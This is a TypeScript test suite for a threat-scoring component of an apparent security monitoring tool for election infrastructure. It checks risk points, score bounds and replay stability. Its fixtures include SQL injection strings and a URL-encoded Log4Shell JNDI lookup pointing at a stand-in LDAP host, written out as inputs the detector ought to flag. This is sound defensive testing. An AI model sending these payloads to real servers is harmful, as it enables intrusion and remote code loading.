// Does a score show its working, and hold what DESIGN promises: bounds, monotony, no order, the same again?
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { detectionContent, SHIPPED_RULES } from '../../../cli/worker/rules.ts'
import { createDetect, DEVICE_ALERT, FAILED_LOGIN } from '../../../processors/detect/index.ts'
import { loadRules } from '../../../processors/detect/sigma/load.ts'
import { createScore, scoreOf, scoreVersion } from '../../../processors/score/index.ts'
import { type Detection, Severity } from '../../../schemas/detection.ts'
import { type Event, emptyEvent } from '../../../schemas/event.ts'
import { Phase } from '../../../schemas/place.ts'
import { ScoreWeights } from '../../../schemas/score.ts'

const weights = ScoreWeights.parse({})
const allowList = ['198.51.100.0/24', '2001:db8::/32']
const score = createScore(weights, { allowList })

type Said = Pick<Detection, 'ruleId' | 'title' | 'severity' | 'technique' | 'field' | 'value'>

/** A detection as detectors make them: what it says once, and what follows from that. */
function detected(said: Said & Partial<Pick<Detection, 'generate'>>): Detection {
  const { technique, field, value } = said
  return { attack: technique === '' ? [] : [technique], evidence: [{ field, value }], generate: true, ...said }
}

const high = detected({
  ruleId: 'siaga.builtin.sql_injection',
  title: 'SQL',
  severity: 'high',
  technique: 'T1190',
  field: 'url_original',
  value: "' or 1=1",
})
const medium: Detection = { ...high, ruleId: 'siaga.builtin.header_injection', severity: 'medium', value: 'x' }
const login = detected({
  ruleId: FAILED_LOGIN,
  title: 'Failed login',
  severity: 'informational',
  technique: 'T1110',
  field: 'user_name',
  value: 'x',
})
const alert = detected({
  ruleId: DEVICE_ALERT,
  title: 'ET SCAN',
  severity: 'high',
  technique: '',
  field: 'event_severity',
  value: '80',
})

function scored(fields: Partial<Event>, detections: readonly Detection[] = [], by = score): Event {
  const event = Object.assign(emptyEvent(), fields)
  by(event, detections)
  return event
}

function points(event: Event): Record<string, number> {
  return Object.fromEntries(event.factors.map((factor) => [factor.name, factor.points]))
}

describe('factors', () => {
  it('start with the prior: one in a hundred', () => {
    const event = scored({})
    expect(event.factors).toEqual([{ name: 'prior', points: -46, detail: '' }])
    expect(event.score).toBe(1)
    expect(event.rule_ids).toEqual([])
  })

  it.each<[string, Partial<Event>, Detection[], Record<string, number>]>([
    ['asset', { asset_id: 'a', asset_criticality: 'critical' }, [], { asset: 12 }],
    ['asset of low criticality', { asset_id: 'a', asset_criticality: 'low' }, [], { asset: -3 }],
    ['no points, no factor', { asset_id: 'a', asset_criticality: 'medium', election: 'e', phase: 'persiapan' }, [], {}],
    ['phase', { election: 'pilkada-2024', phase: 'pemungutan' }, [], { phase: 10 }],
    ['unknown words', { asset_criticality: 'constructor', phase: '__proto__' }, [], {}],
    ['rule', {}, [high], { 'rule:siaga.builtin.sql_injection': 45 }],
    ['heaviest rule of one technique and field', {}, [medium, high], { 'rule:siaga.builtin.sql_injection': 45 }],
    [
      'rules on different fields',
      {},
      [{ ...medium, field: 'http_referrer' }, high],
      { 'rule:siaga.builtin.sql_injection': 45, 'rule:siaga.builtin.header_injection': 25 },
    ],
    [
      'first of equal rules',
      {},
      [
        { ...high, ruleId: 'b' },
        { ...high, ruleId: 'a' },
      ],
      { 'rule:a': 45 },
    ],
    [
      'a technique and its sub-techniques are one',
      {},
      [
        { ...high, ruleId: 'a', technique: 'T1059' },
        { ...medium, ruleId: 'b', technique: 'T1059.007' },
        { ...medium, ruleId: 'c', technique: 't1059.001' },
      ],
      { 'rule:a': 45 },
    ],
    [
      'parts and forms of one text are one field',
      {},
      ['url_original', 'url_path', 'url.decoded', 'url.query', 'c-uri', 'cs-uri-query'].map((field, at) => ({
        ...(at === 3 ? high : medium),
        ruleId: `rule${at}`,
        field,
      })),
      { 'rule:rule3': 45 },
    ],
    [
      'techniques that only look alike are two',
      {},
      [
        { ...high, ruleId: 'a', technique: 'T1059' },
        { ...high, ruleId: 'b', technique: 'T10590' },
      ],
      { 'rule:a': 45, 'rule:b': 45 },
    ],
    [
      'rules that only feed a correlation, by their level',
      {},
      [
        { ...high, ruleId: 'a', generate: false },
        { ...high, ruleId: 'b', technique: '', severity: 'informational', generate: false },
      ],
      { 'rule:a': 45 },
    ],
    [
      'rules without technique stand alone',
      {},
      [
        { ...high, technique: '', ruleId: 'b' },
        { ...high, technique: '', ruleId: 'a' },
      ],
      { 'rule:a': 45, 'rule:b': 45 },
    ],
    ['device severity in proportion', { event_severity: 80 }, [alert], { device_severity: 40 }],
    ['device severity without an alert', { event_severity: 10 }, [], { device_severity: 5 }],
    ['failed login', { user_name: 'siti' }, [login], { failed_login: 12 }],
    [
      'failed login of a privileged user',
      { user_name: 'Administrator' },
      [login],
      { failed_login: 12, failed_login_privileged: 6 },
    ],
    [
      'attack answered with success',
      { http_status_code: 200 },
      [high],
      { 'rule:siaga.builtin.sql_injection': 45, attack_succeeded: 12 },
    ],
    [
      'attack answered with success, by any technique of the rule',
      { http_status_code: 200 },
      [{ ...high, technique: 'T1595', attack: ['T1595', 'T1190'], field: 'cs-uri-query' }],
      { 'rule:siaga.builtin.sql_injection': 45, attack_succeeded: 12 },
    ],
    ['attack refused', { http_status_code: 403 }, [high], { 'rule:siaga.builtin.sql_injection': 45 }],
    [
      'success of something light is none',
      { http_status_code: 200 },
      [{ ...high, severity: 'low' }],
      { 'rule:siaga.builtin.sql_injection': 10 },
    ],
    [
      'attack in a header has no success',
      { http_status_code: 200 },
      [{ ...high, field: 'user_agent_original' }],
      { 'rule:siaga.builtin.sql_injection': 45 },
    ],
    ['known scanner', { source_scanner: 'Censys' }, [], { known_scanner: -8 }],
    ['known scanner that attacks', { source_scanner: 'Censys' }, [high], { 'rule:siaga.builtin.sql_injection': 45 }],
    [
      'allowed IPv4',
      { source_ip: '198.51.100.7' },
      [high],
      { 'rule:siaga.builtin.sql_injection': 45, allow_listed: -60 },
    ],
    ['allowed IPv6', { source_ip: '2001:db8::7' }, [], { allow_listed: -60 }],
    ['not allowed', { source_ip: '198.51.101.7' }, [], {}],
  ])('%s', (_case, fields, detections, expected) => {
    expect(points(scored(fields, detections))).toEqual({ prior: -46, ...expected })
  })

  it('say what they saw', () => {
    const event = scored(
      {
        asset_id: 'sirekap',
        asset_criticality: 'high',
        election: 'pemilu-2024',
        phase: 'rekapitulasi',
        event_severity: 80,
        source_ip: '198.51.100.7',
      },
      [high, alert],
    )
    expect(event.factors.map(({ name, detail }) => [name, detail])).toEqual([
      ['prior', ''],
      ['asset', 'sirekap (high)'],
      ['phase', 'pemilu-2024 rekapitulasi'],
      ['rule:siaga.builtin.sql_injection', "url_original: ' or 1=1 (high)"],
      ['device_severity', '80: ET SCAN'],
      ['allow_listed', '198.51.100.0/24'],
    ])
  })

  it('say what a rule without a field saw', () => {
    expect(scored({}, [{ ...high, field: '' }]).factors[1]?.detail).toBe("' or 1=1 (high)")
  })

  it('list ordinary things that a correlation counts, without points: correlations select by rule_ids', () => {
    const counted = scored({}, [{ ...high, severity: 'informational', generate: false }])
    expect([counted.rule_ids, counted.score]).toEqual([[high.ruleId], 1])
    expect(counted.factors).toBe(scored({}).factors)
  })

  it('list every rule once, those that have a factor of their own too', () => {
    expect(scored({}, [high, { ...high, field: 'http_referrer' }, login]).rule_ids).toEqual([FAILED_LOGIN, high.ruleId])
  })

  it('are one frozen list for events without evidence on the same asset in the same phase', () => {
    const place = { asset_id: 'a', asset_criticality: 'high', election: 'e', phase: 'kampanye' }
    const first = scored(place)
    const second = scored({ ...place, source_ip: '8.8.8.8' })
    expect(second.factors).toBe(first.factors)
    expect(Object.isFrozen(first.factors) && Object.isFrozen(first.factors[0])).toBe(true)
    expect(scored({ ...place, phase: 'masa_tenang' }).factors).not.toBe(first.factors)
    expect(points(scored({ ...place, asset_criticality: 'low' }))).toEqual({ prior: -46, asset: -3, phase: 3 })
    expect(scored(place, [high]).factors).not.toBe(first.factors)
    expect(points(first)).toEqual({ prior: -46, asset: 6, phase: 3 })
  })
})

describe('scale', () => {
  it.each([
    [[-46], 1],
    [[0], 50],
    [[-46, 45], 48],
    [[-46, 45, 12], 75],
    [[1_000], 100],
    [[-1_000], 0],
    [[], 50],
  ])('%j gives %i', (list, expected) => {
    expect(scoreOf(list.map((value) => ({ points: value })))).toBe(expected)
  })
})

const detection: fc.Arbitrary<Detection> = fc
  .record({
    ruleId: fc.constantFrom('a', 'b', 'c', 'd', FAILED_LOGIN, DEVICE_ALERT),
    title: fc.constantFrom('t', 'u'),
    severity: fc.constantFrom(...Severity.options),
    technique: fc.constantFrom('', 'T1190', 'T1059', 'T1059.001', 'T1110'),
    field: fc.constantFrom('', 'url_original', 'url.decoded', 'user_agent_original', 'user_name'),
    value: fc.constantFrom('', 'x', 'y'),
    generate: fc.boolean(),
  })
  .map(detected)
const detections = fc.array(detection, { maxLength: 8 })
const fields = fc.record({
  asset_id: fc.constantFrom('', 'a', 'b'),
  asset_criticality: fc.constantFrom('', 'low', 'medium', 'high', 'critical'),
  election: fc.constantFrom('', 'e'),
  phase: fc.constantFrom('', ...Phase.options),
  event_severity: fc.integer({ min: 0, max: 100 }),
  source_ip: fc.constantFrom('', '8.8.8.8', '198.51.100.1', 'x'),
  source_scanner: fc.constantFrom('', 'Censys'),
  user_name: fc.constantFrom('', 'root', 'siti'),
  http_status_code: fc.constantFrom(0, 200, 404),
})

describe('promises', () => {
  it('keeps every score a whole number from 0 to 100, whatever the weights', () => {
    const prior = fc.integer({ min: -500, max: 500 })
    fc.assert(
      fc.property(fields, detections, prior, (event, list, start) => {
        const result = scored(event, list, createScore({ ...weights, prior: start }, { allowList }))
        expect(Number.isInteger(result.score)).toBe(true)
        expect(result.score).toBeGreaterThanOrEqual(0)
        expect(result.score).toBeLessThanOrEqual(100)
        for (const factor of result.factors) expect(Number.isInteger(factor.points)).toBe(true)
      }),
    )
  })

  it('gives exactly the score that the stored factors add up to, prior first, none without points', () => {
    fc.assert(
      fc.property(fields, detections, (event, list) => {
        const { score: value, factors } = scored(event, list)
        expect(scoreOf(factors)).toBe(value)
        expect(factors[0]?.name).toBe('prior')
        for (const factor of factors.slice(1)) expect(factor.points).not.toBe(0)
      }),
    )
  })

  it('never falls when a detection is added', () => {
    fc.assert(
      fc.property(fields, detections, detection, (event, list, more) => {
        expect(scored(event, [...list, more]).score).toBeGreaterThanOrEqual(scored(event, list).score)
      }),
    )
  })

  it('never falls when a device calls it graver, a login is of somebody privileged or an attack is answered', () => {
    const graver = fc.integer({ min: 0, max: 100 })
    fc.assert(
      fc.property(fields, detections, graver, (event, list, more) => {
        const before = scored({ ...event, user_name: 'siti', http_status_code: 404 }, list).score
        const event_severity = Math.min(100, event.event_severity + more)
        const worse = { ...event, event_severity, user_name: 'root', http_status_code: 200 }
        expect(scored(worse, list).score).toBeGreaterThanOrEqual(before)
      }),
    )
  })

  it('never falls when a rule, a device, an asset or a phase weighs more', () => {
    const heavier: ScoreWeights = {
      ...weights,
      rule: { informational: 3, low: 12, medium: 30, high: 50, critical: 80 },
      device_severity: 60,
      asset: { low: -3, medium: 1, high: 7, critical: 13 },
      phase: { persiapan: 1, kampanye: 4, masa_tenang: 7, pemungutan: 11, rekapitulasi: 9, sengketa: 5 },
      failed_login: 13,
    }
    const more = createScore(heavier, { allowList })
    fc.assert(
      fc.property(fields, detections, (event, list) => {
        expect(scored(event, list, more).score).toBeGreaterThanOrEqual(scored(event, list).score)
      }),
    )
  })

  it('does not depend on the order of detections', () => {
    const shuffled = detections.chain((list) =>
      fc.tuple(fc.constant(list), fc.shuffledSubarray(list, { minLength: list.length })),
    )
    fc.assert(
      fc.property(fields, shuffled, (event, [list, other]) => {
        const one = scored(event, list)
        const two = scored(event, other)
        expect([two.score, two.factors, two.rule_ids]).toEqual([one.score, one.factors, one.rule_ids])
      }),
      { numRuns: 2_000 },
    )
  })

  it('gives the same again on replay, in a new process too', () => {
    fc.assert(
      fc.property(fields, detections, fields, (event, list, between) => {
        const first = scored(event, list)
        scored(between, [])
        const again = scored(event, list)
        const fresh = scored(event, list, createScore(weights, { allowList }))
        expect(again).toEqual(first)
        expect(fresh).toEqual(first)
      }),
    )
  })

  it('changes neither the detections nor lists that it shares', () => {
    const frozen = Object.freeze([Object.freeze({ ...medium }), Object.freeze({ ...high })])
    const before = scored({}).factors.length
    scored({ event_severity: 50, source_scanner: 'x' }, frozen)
    expect(scored({}).factors).toHaveLength(before)
  })
})

describe('version', () => {
  it('is the same for the same weights in any order, and another for others', () => {
    const { prior, rule, ...rest } = weights
    expect(scoreVersion(weights)).toMatch(/^[0-9a-f]{8}$/)
    expect(scoreVersion({ ...rest, rule, prior })).toBe(scoreVersion(weights))
    expect(scoreVersion({ ...weights, prior: -45 })).not.toBe(scoreVersion(weights))
    expect(scoreVersion(weights, ['10.0.0.1'])).not.toBe(scoreVersion(weights))
    expect(scoreVersion(weights, ['b', 'a'])).toBe(scoreVersion(weights, ['a', 'b']))
    expect(scoreVersion(weights, [], [{ name: 'shodan' }])).not.toBe(scoreVersion(weights))
    expect(scored({}).score_version).toBe(scoreVersion(weights, allowList))
  })
})

describe('with the shipped rules', () => {
  const detect = createDetect(detectionContent(loadRules([SHIPPED_RULES])))
  const together = (values: Partial<Event>): number => {
    const event = Object.assign(emptyEvent(), { dataset: 'nginx.access', http_method: 'GET', url_path: '/' }, values)
    score(event, detect(event))
    return event.score
  }

  it.each<[string, Partial<Event>, number, number]>([
    ['ordinary page', { url_original: '/berita', http_status_code: 200 }, 0, 2],
    [
      'ordinary page on election day on a critical asset',
      {
        url_original: '/berita',
        http_status_code: 200,
        asset_id: 'a',
        asset_criticality: 'critical',
        election: 'e',
        phase: 'pemungutan',
      },
      3,
      12,
    ],
    ['one failed login', { event_category: 'authentication', event_outcome: 'failure', user_name: 'root' }, 3, 8],
    ['probe that found nothing', { url_original: '/wp-login.php', http_status_code: 404 }, 1, 5],
    ['injection refused', { url_original: "/?id=1'%20or%201=1--%20-", http_status_code: 403 }, 40, 60],
    ['injection answered', { url_original: "/?id=1'%20or%201=1--%20-", http_status_code: 200 }, 65, 85],
    [
      'Log4Shell on a critical asset at the vote',
      {
        url_original: '/?x=%24%7Bjndi:ldap://e/a%7D',
        http_status_code: 404,
        asset_id: 'a',
        asset_criticality: 'critical',
        election: 'e',
        phase: 'pemungutan',
      },
      85,
      100,
    ],
  ])('%s', (_case, values, least, most) => {
    expect(together(values)).toBeGreaterThanOrEqual(least)
    expect(together(values)).toBeLessThanOrEqual(most)
  })
})
